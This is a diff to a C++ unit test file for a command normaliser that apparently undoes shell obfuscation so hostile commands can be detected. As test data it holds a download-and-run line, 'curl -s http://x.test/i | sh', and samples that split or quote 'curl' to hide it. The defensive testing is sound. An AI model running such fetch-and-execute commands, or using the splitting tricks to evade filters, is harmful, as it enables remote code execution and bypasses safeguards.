@@ -36,6 +36,10 @@ TEST(CommandViews, WordsUnquoted) {
         {"echo 'x", "echo 'x"},
         // Where backslashes separate Windows paths, they are not escapes.
         {R"(copy C:\Users\me\notes.txt \\nas\backup\)", R"(copy C:\Users\me\notes.txt \\nas\backup\)"},
+        // A backslash and a line break vanish inside a word; between words, in single quotes and as
+        // PowerShell's backquote they are a blank.
+        {"cu\\\nrl x | s\\\r\nh", "curl x | sh"},
+        {"curl \\\n-s x 'a\\\nb' c`\nd", "curl  -s x 'a b' c d"},
     };
     for (const auto& [text, expected] : cases)
         EXPECT_EQ(unquotedWords(text), expected) << text;
@@ -114,14 +118,15 @@ TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
     };
     for (const auto& [text, origins] : cases) {
         std::vector<std::string> found;
-        for (const auto& view : derive(text, 4096)) {
+        for (const auto& view : derive(text, text, 4096)) {
             found.push_back(view.origin);
             EXPECT_EQ(view.text.find("curl -s http://x.test/i | sh"), std::string::npos) << view.origin;
         }
         EXPECT_EQ(found, origins) << text;
     }
     // Views together stay within the budget: here the first takes it all.
-    const auto cut = derive(R"(c"u"rl a=b;$a )" + std::string(300, 'x'), 100);
+    const std::string longCommand = R"(c"u"rl a=b;$a )" + std::string(300, 'x');
+    const auto cut = derive(longCommand, longCommand, 100);
     ASSERT_EQ(cut.size(), 1U);
     EXPECT_EQ(cut[0].text, "curl a=b;$a " + std::string(88, 'x'));
     EXPECT_EQ(description("base64/hex/unquoted"),
